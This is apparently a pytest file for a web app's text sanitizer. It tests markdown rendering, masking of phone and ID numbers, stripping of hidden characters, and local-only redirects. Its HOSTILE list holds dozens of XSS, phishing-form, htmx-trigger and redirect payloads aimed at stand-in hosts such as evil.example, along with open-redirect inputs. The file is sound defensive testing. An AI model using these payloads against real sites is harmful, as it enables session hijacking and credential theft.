"""What people wrote is shown as words, whatever they wrote."""

import html
import re
import time

import pytest

from deliberate.web.text import local_path, masked, plain, rendered, secret, to_html

pytestmark = pytest.mark.anyio
TAG = re.compile(r"<\s*/?\s*([a-zA-Z0-9!]+)([^>]*)>")
HREF = re.compile(r'href="([^"]*)"')
ALLOWED = {"p", "br", "strong", "em", "ul", "ol", "li", "blockquote", "a", "code", "h3", "h4"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '[x](https://a.example/" onmouseover="alert(1))',
    "[x](https://a.example 'title\" onclick=\"alert(1)')",
    "<svg/onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p hx-get="/sign-out" hx-trigger="load">x</p>',
    "<div data-hx-post=\"/me/act-as\" hx-vals='{}'>x</div>",
    '<button formaction="/sign-out">x</button>',
    "<form action=//evil.example><input name=password></form>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "<details open ontoggle=alert(1)>",
    "<a id=form_key name=key>clobber</a>",
    "# <img src=x onerror=alert(1)>\n## two",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_hostile_survives(source):
    made = to_html(source)
    for name, attributes in TAG.findall(made):
        assert name.lower() in ALLOWED
        rest = re.sub(r'\s*href="[^"]*"', "", attributes) if name == "a" else attributes
        assert rest.strip(" /") == "", made
    for address in HREF.findall(made):
        assert html.unescape(address).startswith(("http://", "https://"))


def test_there_are_enough_of_them():
    assert len(set(HOSTILE)) >= 25


def test_markdown_that_is_meant_well_survives():
    made = to_html(
        "# 大标题\n\n**要紧** 和 *要紧*\n\n- 一\n- 二\n\n> 引\n\n[通报](https://a.example/x?a=1&b=2)"
    )
    assert "<h3>大标题</h3>" in made
    assert "<strong>要紧</strong>" in made
    assert "<li>一</li>" in made
    assert "<blockquote>" in made
    assert 'href="https://a.example/x?a=1&amp;b=2"' in made


def test_a_line_break_is_kept():
    assert "<br" in to_html("一\n二")


async def test_a_text_made_to_be_slow_is_not(anyio_backend):
    begun = time.perf_counter()
    for source in ("[" * 20_000, "*a " * 6_000, "> " * 9_000 + "x", "<" * 20_000, "`" * 20_000):
        await rendered(source)
    assert time.perf_counter() - begun < 20


@pytest.mark.parametrize(
    "typed, shown",
    [
        ("找王师傅 13812345678 修", "找王师傅 138****5678 修"),
        ("13812345678", "138****5678"),
        ("电话13812345678，19900001111", "电话138****5678，199****1111"),
        ("身份证 310101197405160011", "身份证 310101********0011"),
        ("31010119740516001X", "310101********001X"),
        ("31010119740516001x", "310101********001x"),
        ("8812345678", "8812345678"),
        ("138123456789", "138123456789"),
        ("订单 20261122138123456780001", "订单 20261122138123456780001"),
        ("12812345678", "12812345678"),
        ("造价 48000000000 元", "造价 48000000000 元"),
        ("", ""),
    ],
)
def test_phones_and_identity_numbers_are_masked_and_nothing_else(typed, shown):
    assert masked(typed) == shown


def test_a_tidy_string_has_no_marks_that_turn_or_hide_text():
    assert plain(" a\u202eb\u200bc\u0000\r\nd\ufeff ") == "abc\nd"
    assert plain("e\u0301") == "\u00e9"
    assert plain("一\t二") == "一\t二"


@pytest.mark.parametrize(
    "asked",
    [
        "https://evil.example",
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "javascript:alert(1)",
        "/\t/evil.example",
        "/\n/evil.example",
        "\t//evil.example",
        "http:evil.example",
        "evil",
        "",
    ],
)
def test_a_way_out_of_the_house_leads_home(asked):
    assert local_path(asked) == "/"


@pytest.mark.parametrize("asked", ["/", "/issues/46?x=1#y", "/issues?q=//a"])
def test_a_way_within_the_house_is_kept(asked):
    assert local_path(asked) == asked


def test_of_a_password_nothing_is_tidied_away_but_how_its_letters_are_put_together():
    typed = " a\u200bb\t\r\n c "
    assert secret(typed) == typed
    assert secret("cafe\u0301") == "café"
    secret("\ud800 half of a pair").encode()
